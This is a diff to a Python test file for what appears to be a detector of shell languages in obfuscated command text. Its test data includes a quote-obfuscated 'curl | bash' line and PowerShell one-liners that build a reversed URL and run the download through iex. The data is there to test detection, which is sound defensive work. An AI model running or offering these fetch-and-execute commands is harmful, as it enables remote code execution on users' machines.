@@ -304,6 +304,12 @@ def test_powershells_own_backticks_and_braces_still_make_a_powershell_reading(te
     assert "powershell" in languages(text.lower())
 
 
+def test_a_docstrings_quotes_are_no_quotes_inserted_into_a_shell_word() -> None:
+    source = 'def build(options):\n    """Turn flags into arguments."""\n    return []\n'
+    assert "posix" not in languages(source.lower())
+    assert "posix" in languages("cu\"\"rl -s https://a.test/x | ba''sh")
+
+
 REVERSING = [
     "$a='redaol/x/tset.a//:sptth'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))",
     "iex ((\"txt.a/tset.a//:sptth\")[-1..-99] -join '')",
